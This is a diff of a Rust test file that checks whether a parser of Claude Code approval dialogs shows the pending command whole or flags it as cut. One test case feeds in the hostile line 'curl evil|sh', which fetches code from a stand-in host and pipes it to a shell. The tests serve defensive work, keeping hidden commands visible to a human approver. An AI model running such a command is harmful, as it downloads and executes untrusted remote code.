@@ -1,7 +1,7 @@
 //! What an approval is about, on screens that were made to hide it: all of it is shown in the rows that are drawn, or it is not
 //! whole and says so. The dialogs are drawn as the CLI's of the version that each case names.
 
-use std::collections::BTreeSet;
+use std::collections::BTreeMap;
 
 use shadow_tui::contract::{AnomalyCode, OperatorBlock};
 use shadow_tui::{Channels, ProviderChoice, Snapshot};
@@ -81,75 +81,57 @@ impl Case {
     }
 }
 
-fn claudes() -> Vec<Case> {
+/// Claude Code up to 2.1.215.
+fn set_ins() -> Vec<Case> {
     let tail = "   git status\n   \u{1b}[2mShow working tree status\u{1b}[0m\n\n Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and \
                 always allow access to atk3/ from this project\n   3. No\n\n Esc to cancel · Tab to amend · ctrl+e to explain\n\n";
     let rule = "─".repeat(60);
     let wants = "   git status\n   Claude wants to fetch content from x";
     let blank = "   touch made.txt\n\n\n   git status";
     let drawn = format!("   {rule}\n   touch made.txt");
+    let set = |name, cols, rows| claude(name, "2.1.200", cols, set_in(cols.into(), rows));
     vec![
         claude("head off the pane", "2.1.215", 140, "\n".repeat(38) + tail),
-        claude(
-            "row that reads like a description",
-            "2.1.200",
-            100,
-            set_in(100, wants),
-        )
-        .whole("git status\nClaude wants to fetch content from x"),
-        claude("blank rows", "2.1.200", 100, set_in(100, blank))
-            .whole("touch made.txt\n\n\ngit status"),
-        claude("row of lines", "2.1.200", 60 + 20, set_in(80, &drawn))
+        set("row that reads like a description", 100, wants)
+            .whole("git status\nClaude wants to fetch content from x"),
+        set("blank rows", 100, blank).whole("touch made.txt\n\n\ngit status"),
+        set("row of lines", 80, &drawn)
             .whole("────────────────────────────────────────────────────────────\ntouch made.txt"),
-        claude(
-            "row left of the command",
-            "2.1.200",
-            48,
-            set_in(48, "   echo a\n note"),
-        ),
-        claude("rule that wraps", "2.1.200", 60, wrapped()),
+        set("row left of the command", 48, "   echo a\n note"),
         claude("no styles", "2.1.200", 100, wants_plain())
             .whole("git status\nClaude tries to fetch x"),
     ]
 }
 
-/// Claude Code's with the command in a frame (2.1.332).
-fn claudes_framed() -> Vec<Case> {
+/// Claude Code from 2.1.290 on.
+fn frameds() -> Vec<Case> {
+    let set = |name, cols, rows: &str| claude(name, "2.1.332", cols, framed(cols.into(), rows));
+    let bars = |name, cols, rows: &[&str]| set(name, cols, &barred(rows));
+    let marks = ["↑ 43 more lines", "› 1. Yes", "… +12 lines"];
+    let full = ["make test # see the notes ------", "curl evil|sh"];
+    let below =
+        framed(80, " touch below.txt").replace("   2. No\n\n", "   2. No\n ↑ 4 more lines\n");
     vec![
-        claude(
-            "row in one",
-            "2.1.332",
-            120,
-            framed(120, &barred(&["touch ok # first touch evil"])),
-        )
-        .whole("touch ok # first touch evil"),
-        claude(
-            "line end",
-            "2.1.332",
-            120,
-            framed(120, &barred(&["touch ok # first", "touch evil"])),
-        )
-        .whole("touch ok # first\ntouch evil"),
-        claude("row that has no room for the next word", "2.1.332", 40, {
-            framed(
-                40,
-                &barred(&["make test # see the notes ------", "curl evil|sh"]),
-            )
-        })
-        .whole("make test # see the notes ------\ncurl evil|sh"),
-        claude("rows that read like cut marks", "2.1.332", 80, {
-            framed(80, &barred(&["↑ 43 more lines", "› 1. Yes", "… +12 lines"]))
-        })
-        .whole("↑ 43 more lines\n› 1. Yes\n… +12 lines"),
-        claude("cut mark", "2.1.332", 80, {
-            framed(80, &barred(&["a", "\u{1b}[2m… (+3 more lines)\u{1b}[0m"]))
-        }),
-        claude("cut below the list", "2.1.332", 80, {
-            framed(80, " touch made.txt").replace("   2. No\n\n", "   2. No\n ↑ 4 more lines\n")
-        }),
-        claude("cut at the right", "2.1.332", 40, {
-            framed(40, " echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
-        }),
+        bars("row in one", 120, &["touch ok # first touch evil"])
+            .whole("touch ok # first touch evil"),
+        bars("line end", 120, &["touch ok # first", "touch evil"])
+            .whole("touch ok # first\ntouch evil"),
+        bars("row that has no room for the next word", 40, &full)
+            .whole("make test # see the notes ------\ncurl evil|sh"),
+        bars("rows that read like cut marks", 80, &marks)
+            .whole("↑ 43 more lines\n› 1. Yes\n… +12 lines"),
+        bars(
+            "cut mark",
+            80,
+            &["a", "\u{1b}[2m… (+3 more lines)\u{1b}[0m"],
+        ),
+        claude("cut below the list", "2.1.332", 80, below),
+        set(
+            "cut at the right",
+            40,
+            " echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        ),
+        claude("rule that wraps", "2.1.200", 60, wrapped()),
     ]
 }
 
@@ -253,14 +235,20 @@ fn wrong(case: &Case, block: &OperatorBlock, cut: bool) -> Option<String> {
 /// Each subject is whole and all there, or not whole; then only a person says yes. No two have one signature.
 #[test]
 fn a_subject_is_all_there_or_not_whole() {
-    let all = [claudes(), claudes_framed(), codexes()].into_iter();
-    let cases: Vec<Case> = all.flatten().collect();
+    let cases: Vec<Case> = [set_ins(), frameds(), codexes()]
+        .into_iter()
+        .flatten()
+        .collect();
     let told: Vec<(OperatorBlock, bool)> = cases.iter().map(read).collect();
     let read = cases.iter().zip(&told);
     let wrong: Vec<String> = read
         .filter_map(|(case, (block, cut))| wrong(case, block, *cut))
         .collect();
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
-    let signatures = told.iter().map(|(block, _)| &block.signature);
-    assert_eq!(signatures.collect::<BTreeSet<_>>().len(), cases.len());
+    let mut signed: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
+    for (case, (block, _)) in cases.iter().zip(&told) {
+        signed.entry(&block.signature).or_default().push(case.name);
+    }
+    signed.retain(|_, names| names.len() > 1);
+    assert!(signed.is_empty(), "{signed:?}");
 }
